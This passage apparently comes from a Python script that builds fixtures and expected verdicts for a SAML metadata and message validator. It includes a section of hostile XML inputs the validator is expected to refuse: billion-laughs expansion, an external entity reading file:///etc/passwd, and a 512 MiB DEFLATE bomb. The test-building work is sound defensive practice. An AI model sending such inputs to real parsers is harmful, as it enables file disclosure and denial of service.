         msg("response", [SNV], uidPresent=True, signatureCertificateInMetadata=True, audiences=[WEBEX_ID],
             signaturesPresent={"message": False, "assertion": True}, status={"code": SUCCESS, "subCode": None},
             conditions={"secondsToNotBefore": -300, "secondsToNotOnOrAfter": 300}), metadata=both)
    case("response: clean, no metadata given", r_clean,
         msg("response", [SNV], certificates=1, signatureCertificateInMetadata=None, uidPresent=True))
    b64 = base64.b64encode(clean_response.encode()).decode()
    case("response: the clean response as base64 (wrapped at 76 columns)",
         put("response-clean.b64.txt", "\n".join(b64[i:i + 76] for i in range(0, len(b64), 76)) + "\n"),
         msg("response", [SNV], "base64", signatureCertificateInMetadata=True, uidPresent=True), metadata=[clean])
    case("response: the clean response as a POST form body",
         put("response-clean.form.txt", urllib.parse.urlencode({"SAMLResponse": b64, "RelayState": "s2a7d3f1"})),
         msg("response", [SNV], "url", certificates=1, uidPresent=True))
    case("response: Response and Assertion both signed",
         put("response-signed-both.xml", response("signed-both", sign_response="idp")),
         msg("response", [SNV], signaturesPresent={"message": True, "assertion": True},
             signatureCertificateInMetadata=True), metadata=[clean])
    case("response: Conditions window ended yesterday",
         put("response-conditions-expired.xml", response("expired", issued="2026-05-30T09:00:00Z",
                                                         not_before="2026-05-30T08:55:00Z",
                                                         not_on_or_after="2026-05-30T09:05:00Z")),
         msg("response", [SNV, "conditions_expired"], certificates=1))
    case("response: NotOnOrAfter exactly now",
         put("response-conditions-end-at-now.xml", response("end-at-now", issued="2026-05-31T23:55:00Z",
                                                            not_before="2026-05-31T23:50:00Z",
                                                            not_on_or_after=NOW_TEXT)),
         msg("response", [SNV, "conditions_expired"]))
    case("response: NotBefore exactly now (valid)",
         put("response-conditions-start-at-now.xml", response("start-at-now", issued=NOW_TEXT, not_before=NOW_TEXT,
                                                              not_on_or_after="2026-06-01T00:05:00Z")),
         msg("response", [SNV]))
    case("response: not yet valid (IdP clock 10 minutes ahead)",
         put("response-conditions-not-yet-valid.xml", response("future", issued="2026-06-01T00:10:00Z",
                                                               not_before="2026-06-01T00:09:30Z",
                                                               not_on_or_after="2026-06-01T00:15:00Z")),
         msg("response", [SNV, "conditions_not_yet_valid"], certificates=1))
    case("response: Audience of another Webex org, against the IdP and SP metadata",
         put("response-audience-mismatch.xml", response("audience", audience=f"https://idbroker.webex.com/{OTHER_ORG}")),
         msg("response", [SNV, "audience_mismatch"], signatureCertificateInMetadata=True,
             audiences=[f"https://idbroker.webex.com/{OTHER_ORG}"]), metadata=both)
    case("response: signed with a certificate that is not in the IdP metadata",
         put("response-certificate-not-in-metadata.xml", response("rogue", sign_assertion="rogue")),
         msg("response", [SNV, "signature_certificate_not_in_metadata"], signatureCertificateInMetadata=False),
         metadata=[clean])
    case("response: Issuer is not the IdP metadata's entityID",
         put("response-issuer-mismatch.xml", response("issuer", issuer="https://other-idp.example.org/saml")),
         msg("response", [SNV, "issuer_mismatch"], signatureCertificateInMetadata=True), metadata=[clean])
    case("response: Responder/AuthnFailed, no assertion (the Response is signed)",
         put("response-status-authn-failed.xml", response(
             "failed", assertion=None, sign_response="idp",
             status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed",
                     "The user could not be authenticated."))),
         msg("response", [SNV, "status_not_success"], certificates=1,
             status={"code": "urn:oasis:names:tc:SAML:2.0:status:Responder",
                     "subCode": "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"},
             signaturesPresent={"message": True, "assertion": False}))
    case("response: no uid attribute",
         put("response-missing-uid.xml", response("no-uid", attributes=[a for a in USER_ATTRS if a[0] != "uid"])),
         msg("response", [SNV, "missing_uid"], uidPresent=False))
    case("response: nothing signed", put("response-unsigned.xml", response("unsigned", sign_assertion=None)),
         msg("response", ["message_unsigned"], certificates=0, signatureCertificateInMetadata=None,
             signaturesPresent={"message": False, "assertion": False}))
    case("response: EncryptedAssertion (Response signed; OAEP's sha1 DigestMethod is not a signature)",
         put("response-encrypted-assertion.xml", response("encrypted", assertion="encrypted", sign_response="idp")),
         msg("response", [SNV, "assertion_encrypted"], certificates=1))
    case("response: assertion signed with rsa-sha1",
         put("response-sha1-signature.xml", response("sha1", sha1=True)), msg("response", [SNV, "sha1_signature"]))
    case("response: signed with a certificate that expired 2026-01-01 (no metadata given)",
         put("response-expired-signing-certificate.xml", response("expired-cert", sign_assertion="idp-expired")),
         msg("response", [SNV, "certificate_expired"], certificates=1))
    case("response: Destination on http:",
         put("response-http-destination.xml", response("http", destination=WEBEX_ACS.replace("https:", "http:"))),
         msg("response", [SNV, "insecure_endpoint"]))

    request = authn_request()
    request_b64 = base64.b64encode(deflate(request.encode())).decode()
    url = IDP_SSO + "?" + urllib.parse.urlencode(
        {"SAMLRequest": request_b64, "RelayState": "https://web.webex.com/sign-in?next=/meet&x=1 2"})
    case("request: AuthnRequest in a Redirect-binding URL", put("authnrequest-redirect.url.txt", url + "\n"),
         msg("request", [], "url", certificates=0))
    case("request: the same AuthnRequest as base64 of raw DEFLATE",
         put("authnrequest.deflate.txt", request_b64 + "\n"), msg("request", [], "deflate"))
    case("request: the same AuthnRequest as XML", put("authnrequest.xml", request + "\n"), msg("request", []))
    case("logout: LogoutRequest from the SP, signed", put("logoutrequest.xml", logout_request()),
         msg("logout", [SNV], certificates=1))
    case("logout: LogoutResponse, Success, unsigned", put("logoutresponse.xml", logout_response()),
         msg("logout", []))

    # 4. hostile and boundary inputs
    case("hostile: billion laughs", put("hostile-billion-laughs.xml", BILLION_LAUGHS), {"error": "xml_dtd_refused"})
    case("hostile: billion laughs, base64", put("hostile-billion-laughs.b64.txt",
                                                base64.b64encode(BILLION_LAUGHS.encode()).decode()),
         {"error": "xml_dtd_refused"})
    case("hostile: external entity file:///etc/passwd", put("hostile-xxe.xml", XXE), {"error": "xml_dtd_refused"})
    case("hostile: external parameter entity", put("hostile-xxe-parameter.xml", XXE_PARAMETER),
         {"error": "xml_dtd_refused"})
    case("hostile: bare DOCTYPE before otherwise clean metadata",
         put("hostile-bare-doctype.xml", idp_metadata().replace(
             "?>\n", "?>\n<!DOCTYPE md:EntityDescriptor>\n", 1)), {"error": "xml_dtd_refused"})
    case("hostile: 100,000 nested elements", recipe(generate="nested", depth=100000), {"error": "xml_too_deep"})
    case("boundary: 65 nested elements", recipe(generate="nested", depth=65), {"error": "xml_too_deep"})
    case("boundary: 64 nested elements (allowed, not SAML)", recipe(generate="nested", depth=64), {"error": "not_saml"})
    case("hostile: 25,000 sibling elements", recipe(generate="siblings", count=25000),
         {"error": "xml_too_many_elements"})
    case("boundary: 20,001 elements (root + 20,000)", recipe(generate="siblings", count=20000),
         {"error": "xml_too_many_elements"})
    case("boundary: 20,000 elements (root + 19,999; allowed, not SAML)", recipe(generate="siblings", count=19999),
         {"error": "not_saml"})
    case("hostile: 1 MiB attribute value", recipe(generate="long_attribute", valueLength=MIB), {"error": "input_too_large"})
    fits = MIB - len(LONG_HEAD) - len(LONG_TAIL)
    case("boundary: text of exactly 1 MiB (allowed)", recipe(generate="long_attribute", valueLength=fits),
         md([U, "not_an_idp"], entities=1, roles=[]))
    case("boundary: text of 1 MiB + 1 byte", recipe(generate="long_attribute", valueLength=fits + 1),
         {"error": "input_too_large"})
    case("hostile: metadata option over 1 MiB", r_clean, {"error": "input_too_large"},
         metadata=[recipe(generate="long_attribute", valueLength=MIB)])
    invalid = idp_metadata().replace("Example Corp (test IdP)", "Example Corp \xff\xfe (test IdP)").encode("latin-1")
    case("hostile: invalid UTF-8 bytes (raw bytes)", put("hostile-invalid-utf8.bin", invalid),
         {"error": "xml_malformed"}, bytes_=True,
         note="a runner that can only pass text must skip this case: decoding would replace the bytes")
    case("hostile: invalid UTF-8 bytes inside base64", put("hostile-invalid-utf8.b64.txt",
                                                           base64.b64encode(invalid).decode()),
         {"error": "xml_malformed"})
    text = idp_metadata()
    case("hostile: unclosed tags (file cut short)",
         put("hostile-unclosed-tag.xml", text[:text.index("</md:IDPSSODescriptor>")]), {"error": "xml_malformed"})
    case("hostile: undeclared entity &nbsp;",
         put("hostile-unknown-entity.xml", text.replace("Example Corp (test IdP)", "Example&nbsp;Corp")),
         {"error": "xml_malformed"})
    segment = base64.b64encode(zeros_segment()).decode()
    case("hostile: base64 DEFLATE bomb, 512 MiB of zeros", recipe(generate="deflate_zeros_base64", segment=segment,
                                                                   times=512, inflatesTo=512 * MIB),
         {"error": "inflated_too_large"},
         note="1 GiB of zeros is ~1.4 MB of base64 (over the 1 MiB input limit), so 512 MiB")
    case("boundary: DEFLATE inflating to 1 MiB + 1 byte of metadata",
         put("boundary-deflate-1mib-plus-1.txt", base64.b64encode(deflate(padded_metadata(MIB + 1).encode())).decode()),
         {"error": "inflated_too_large"})
    case("boundary: DEFLATE inflating to exactly 1 MiB of metadata (allowed)",
         put("boundary-deflate-1mib.txt", base64.b64encode(deflate(padded_metadata(MIB).encode())).decode()),
         md([U], "deflate", **idp1))
    case("hostile: well-formed XML that is not SAML (XHTML)", put("hostile-not-saml.xml", NOT_SAML),
         {"error": "not_saml"})
    case("hostile: EntityDescriptor in a foreign namespace",
         put("hostile-wrong-namespace.xml", text.replace(f'xmlns:md="{MD}"', 'xmlns:md="urn:example:not-saml"')),
         {"error": "not_saml"})
    case("hostile: prose", put("hostile-random-text.txt", RANDOM_TEXT), {"error": "not_saml"})
    case("hostile: random base64 alphabet", put("hostile-random-base64.txt",
                                                base64.b64encode(shake("random-base64", 300)).decode() + "\n"),
         {"error": "not_saml"})
    case("hostile: 65 certificates", certificates_recipe(65), {"error": "too_many_certificates"})
    case("boundary: 64 certificates (allowed; all the same one)", certificates_recipe(64),
         md([U, "duplicate_certificate"], **idp1, certificates=64))


def role_valid_until(when: str) -> str:
    return idp_metadata().replace('<md:IDPSSODescriptor WantAuthnRequestsSigned="false"',
                                  f'<md:IDPSSODescriptor validUntil="{when}" WantAuthnRequestsSigned="false"', 1)


# --- checks and output ---------------------------------------------------------------------------

BROKEN = {"hostile-invalid-utf8.bin", "hostile-unclosed-tag.xml", "hostile-unknown-entity.xml"}


def check_well_formed():
    for name_, content in FILES.items():
        if not name_.endswith(".xml") or name_ in BROKEN:
            continue
        if "<!DOCTYPE" in content:  # check the rest without letting expat expand anything
            content = re.sub(r"<!DOCTYPE[^\[>]*(\[.*?\])?\s*>", "", content, count=1, flags=re.S)
            content = re.sub(r"&(?!amp;|lt;|gt;|quot;|apos;|#)[\w.-]+;", "x", content)
        ET.fromstring(content.encode().decode("utf-8-sig"))
    for name_ in ("hostile-unclosed-tag.xml", "hostile-unknown-entity.xml"):
        try:
            ET.fromstring(FILES[name_])
        except ET.ParseError:
            continue
        raise AssertionError(f"{name_} parsed")


def check_certificates_with_openssl():
    months = {m: i for i, m in enumerate("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(), 1)}

    def when(text):
        mon, day, clock, year, _ = text.split()
        h, mi, s = map(int, clock.split(":"))
        return utc(int(year), months[mon], int(day), h, mi, s)

    for label, (nb, na, bits, alg) in EXPECT_CERT.items():
        der = CERTS[label].public_bytes(serialization.Encoding.DER)
        out = subprocess.run(["openssl", "x509", "-inform", "DER", "-noout", "-text"], input=der,
                             capture_output=True, check=True).stdout.decode()
        assert when(re.search(r"Not Before: (.*)", out)[1]) == nb, label
        assert when(re.search(r"Not After : (.*)", out)[1]) == na, label
        assert int(re.search(r"Public-Key: \((\d+) bit\)", out)[1]) == bits, label
        assert re.search(r"Signature Algorithm: (\S+)", out)[1] == alg, label


def check_against_oracle():
    for c in CASES:
        got = oracle(c)
        for field, want in c["expect"].items():
            if field == "conditions":
                continue  # checked by hand: -300 / +300 seconds around now
            assert got.get(field) == want, f"{c['name']}: {field} expected {want!r}, oracle {got.get(field)!r}"


def check_deflate_bomb():
    r = next(c["file"] for c in CASES if isinstance(c["file"], dict) and c["file"]["generate"] == "deflate_zeros_base64")
    text = generate(r)
    assert len(text) < MIB, len(text)
    d, total = zlib.decompressobj(-15), 0
    data = base64.b64decode(text)
    for i in range(0, len(data), 65536):
        chunk = d.decompress(data[i:i + 65536])
        while chunk:
            assert not chunk.strip(b"\0")
            total += len(chunk)
            chunk = d.decompress(d.unconsumed_tail) if d.unconsumed_tail else b""
    total += len(d.flush())
    assert d.eof and total == r["inflatesTo"], total


def main():
    make_certs()
    build_cases()
    check_well_formed()
    check_certificates_with_openssl()
    (FIXTURES).mkdir(parents=True, exist_ok=True)
    for old in FIXTURES.iterdir():
        if old.name not in FILES:
            old.unlink()
    for name_, content in FILES.items():
        data = content if isinstance(content, bytes) else content.encode()
        assert len(data) < 100 * 1024, name_  # larger inputs are recipes
        (FIXTURES / name_).write_bytes(data)
    check_against_oracle()
    check_deflate_bomb()
    (HERE / "cases.json").write_text(json.dumps(CASES, indent=1, ensure_ascii=False) + "\n")
    print(f"{len(FILES)} fixtures, {len(CASES)} cases", file=sys.stderr)


if __name__ == "__main__":
    main()
